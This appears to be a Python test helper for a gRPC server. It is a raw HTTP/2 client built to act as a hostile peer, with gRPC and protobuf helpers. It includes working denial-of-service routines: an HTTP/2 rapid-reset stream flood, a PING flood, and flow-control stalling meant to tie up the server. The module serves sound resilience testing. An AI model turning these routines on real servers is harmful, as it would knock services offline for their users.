"""A hand-written HTTP/2 client for attack tests: the frames a hostile peer sends, nothing more.

Python 3 standard library only. One H2Conn is one TCP connection (optionally TLS) to the master:

    c = h2raw.H2Conn(("127.0.0.1", port))      # preface + empty SETTINGS sent
    c.rapid_reset(1000, batch=100)             # HEADERS then RST_STREAM(CANCEL), 1000 times
    c.wait_closed(timeout=10)                  # True once the master closed the connection
    c.close()

It can also make a plain unary gRPC call, as an upstream peer that knows only Crawlab's messages
would (`unary`, with the message built by `pb_string`/`pb_varint` and read by `pb_fields`), or a
client stream whose messages and half-close the test places itself (`open_stream`,
`send_message`, `send_bytes`, `end_stream`, `reply`).

A reader thread answers the master's SETTINGS and PINGs (as a live peer must, so that the master
cannot tell it from an idle client) and notices when the connection ends: when a read finds the
end, not when an answer fails, since what the master sent before it closed is still to be read.
Every blocking socket call has a timeout; close() ends the thread.

HPACK: the header block uses only indexed fields from the static table and literal fields
without indexing and without Huffman coding (RFC 7541 6.1, 6.2.2), so no encoder state is kept.
"""

import socket
import ssl
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8

# Static table indexes (RFC 7541 appendix A).
METHOD_POST, SCHEME_HTTP = 3, 6
NAME_AUTHORITY, NAME_PATH = 1, 4

SOCK_TIMEOUT = 10.0


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", stream & 0x7FFFFFFF) + payload


def _hpack_string(s):
    b = s.encode()
    if len(b) >= 127:
        raise ValueError("header value too long for this encoder: %r" % s)
    return bytes([len(b)]) + b


def header_block(path, authority="localhost", extra=()):
    """A request header block for a gRPC call to path; extra is [(name, value)]."""
    out = bytes([0x80 | METHOD_POST, 0x80 | SCHEME_HTTP])
    out += bytes([NAME_PATH]) + _hpack_string(path)
    out += bytes([NAME_AUTHORITY]) + _hpack_string(authority)
    for name, value in [("content-type", "application/grpc"), ("te", "trailers")] + list(extra):
        out += b"\x00" + _hpack_string(name) + _hpack_string(value)
    return out


class H2Conn:
    """A connection that sent the HTTP/2 preface and an empty SETTINGS frame."""

    def __init__(self, addr, tls_context=None, server_hostname=None, source=None, rcvbuf=None):
        """rcvbuf: the socket's receive buffer in bytes (SO_RCVBUF, set before connecting), for a
        reader whose kernel holds little: the master's kernel then keeps the rest unsent."""
        if rcvbuf:
            raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
            raw.settimeout(SOCK_TIMEOUT)
            if source:
                raw.bind((source, 0))
            raw.connect(addr)
        else:
            raw = socket.create_connection(addr, timeout=SOCK_TIMEOUT,
                                           source_address=(source, 0) if source else None)
        if tls_context is not None:
            raw = tls_context.wrap_socket(raw, server_hostname=server_hostname or addr[0])
        self.sock = raw
        self.sock.settimeout(SOCK_TIMEOUT)
        self.next_stream = 1
        self.lock = threading.Lock()       # writes: the test's thread and the reader's acks
        self.closed = threading.Event()    # the master ended the connection
        self.goaway = None                 # the error code of a GOAWAY received
        self.pings = 0                     # PINGs answered
        self.frames = 0                    # frames received
        self.give_window = True            # DATA answered with WINDOW_UPDATEs (open_window)
        self.sent_streams = 0
        self.replies = {}                  # stream -> DATA bytes received, for unary()
        self.ended = {}                    # stream -> threading.Event set at its END_STREAM
        self._stop = False
        self._send(PREFACE + frame(SETTINGS, 0, 0))
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def _send(self, data):
        with self.lock:
            self.sock.sendall(data)

    def _answer(self, data):
        """The reader's own frames (acks, window updates). A peer that has closed refuses them,
        yet what it sent before it closed is still to be read: a failed answer is not an end."""
        try:
            self._send(data)
        except (OSError, ssl.SSLError):
            pass

    def _recv_exact(self, n):
        buf = b""
        while len(buf) < n:
            try:
                chunk = self.sock.recv(n - len(buf))
            except socket.timeout:
                if self._stop:
                    return None
                continue
            if not chunk:
                return None
            buf += chunk
        return buf

    def _read(self):
        try:
            while not self._stop:
                head = self._recv_exact(9)
                if head is None:
                    break
                length = struct.unpack(">I", b"\x00" + head[:3])[0]
                ftype, flags = head[3], head[4]
                payload = self._recv_exact(length) if length else b""
                if payload is None:
                    break
                self.frames += 1
                if ftype == SETTINGS and not flags & ACK:
                    self._answer(frame(SETTINGS, ACK, 0))
                elif ftype == PING and not flags & ACK:
                    self._answer(frame(PING, ACK, 0, payload))
                    self.pings += 1
                elif ftype == GOAWAY and len(payload) >= 8:
                    self.goaway = struct.unpack(">I", payload[4:8])[0]
                sid = struct.unpack(">I", head[5:9])[0] & 0x7FFFFFFF
                if ftype == DATA and sid in self.ended:
                    self.replies[sid] = self.replies.get(sid, b"") + payload
                    if payload and self.give_window:  # so that many calls fit
                        inc = struct.pack(">I", len(payload))
                        self._answer(frame(WINDOW_UPDATE, 0, 0, inc) +
                                     frame(WINDOW_UPDATE, 0, sid, inc))
                if ftype in (DATA, HEADERS) and flags & END_STREAM and sid in self.ended:
                    self.ended[sid].set()
        except (OSError, ssl.SSLError):
            pass
        self.closed.set()

    def request_frames(self, path, extra=(), reset=True):
        """The frames of one call opened on the next stream (and cancelled at once with reset)."""
        sid = self.next_stream
        self.next_stream += 2
        out = frame(HEADERS, END_HEADERS, sid, header_block(path, extra=extra))
        if reset:
            out += frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))
        return out

    def rapid_reset(self, count, path="/grpc.AdminService/ListNodes", batch=100, extra=()):
        """Opens and cancels count streams, batch at a time in one write each. Stops early when
        the master closed the connection; returns the number of streams sent."""
        sent = 0
        try:
            while sent < count and not self.closed.is_set():
                n = min(batch, count - sent)
                self._send(b"".join(self.request_frames(path, extra) for _ in range(n)))
                sent += n
        except (OSError, ssl.SSLError):
            pass
        self.sent_streams += sent
        return sent

    def unary(self, path, message, extra=(), timeout=SOCK_TIMEOUT):
        """One unary gRPC call: the request message (protobuf bytes) in one DATA frame. Returns
        the reply message's bytes, or None when the call ended without one (an error status;
        the trailers are not decoded) or did not end within timeout."""
        sid = self.open_stream(path, extra)
        self.send_message(sid, message, end=True)
        return self.reply(sid, timeout)

    def open_stream(self, path, extra=()):
        """Opens a call on the next stream (HEADERS only) and returns the stream's id."""
        sid = self.next_stream
        self.next_stream += 2
        self.ended[sid] = threading.Event()
        self._send(frame(HEADERS, END_HEADERS, sid, header_block(path, extra=extra)))
        return sid

    def send_message(self, sid, message, end=False):
        """One gRPC message (protobuf bytes) on stream sid; end half-closes the stream with it."""
        body = b"\x00" + struct.pack(">I", len(message)) + message
        self._send(frame(DATA, END_STREAM if end else 0, sid, body))

    def send_bytes(self, sid, data, end=False):
        """Raw DATA on stream sid: part of a gRPC message, say, to stall a call halfway."""
        self._send(frame(DATA, END_STREAM if end else 0, sid, data))

    def end_stream(self, sid):
        """Half-closes stream sid (an empty DATA frame with END_STREAM)."""
        self._send(frame(DATA, END_STREAM, sid))

    def reply(self, sid, timeout=SOCK_TIMEOUT):
        """The reply message of the call on stream sid, as for unary()."""
        if not self.ended[sid].wait(timeout):
            return None
        data = self.replies.pop(sid, b"")
        if len(data) < 5:
            return None
        n = struct.unpack(">I", data[1:5])[0]
        return data[5:5 + n]

    def open_window(self, sid, size):
        """Gives size bytes of window to the connection and to stream sid, and from now on gives
        back what every DATA frame takes. With give_window set to False before, the master's
        writes stall once the first 64 KiB are sent."""
        self.give_window = True
        inc = struct.pack(">I", size)
        self._send(frame(WINDOW_UPDATE, 0, 0, inc) + frame(WINDOW_UPDATE, 0, sid, inc))

    def ping_flood(self, count):
        """Sends count PINGs at once (a peer pinging far more often than allowed)."""
        try:
            self._send(b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(count)))
        except (OSError, ssl.SSLError):
            pass

    def wait_closed(self, timeout):
        return self.closed.wait(timeout)

    def close(self):
        self._stop = True
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.reader.join(SOCK_TIMEOUT + 1)
        self.sock.close()


def wait_until_closed(conns, timeout):
    """Waits until every connection in conns was closed by the master; True if they all were."""
    deadline = time.monotonic() + timeout
    return all(c.wait_closed(max(0.0, deadline - time.monotonic())) for c in conns)


# ---- protobuf, the little a raw peer needs ----

def _varint(n):
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def pb_string(field, value):
    b = value.encode() if isinstance(value, str) else value
    return _varint(field << 3 | 2) + _varint(len(b)) + b


def pb_varint(field, value):
    return _varint(field << 3) + _varint(value)


def pb_fields(data):
    """{field number: [values]}: varints as ints, length-delimited fields as bytes."""
    out, i = {}, 0

    def varint():
        nonlocal i
        n = shift = 0
        while True:
            b = data[i]
            i += 1
            n |= (b & 0x7F) << shift
            shift += 7
            if not b & 0x80:
                return n
    while i < len(data):
        key = varint()
        field, wtype = key >> 3, key & 7
        if wtype == 0:
            value = varint()
        elif wtype == 2:
            n = varint()
            value, i = data[i:i + n], i + n
        elif wtype == 1:
            value, i = data[i:i + 8], i + 8
        elif wtype == 5:
            value, i = data[i:i + 4], i + 4
        else:
            raise ValueError("wire type %d" % wtype)
        out.setdefault(field, []).append(value)
    return out
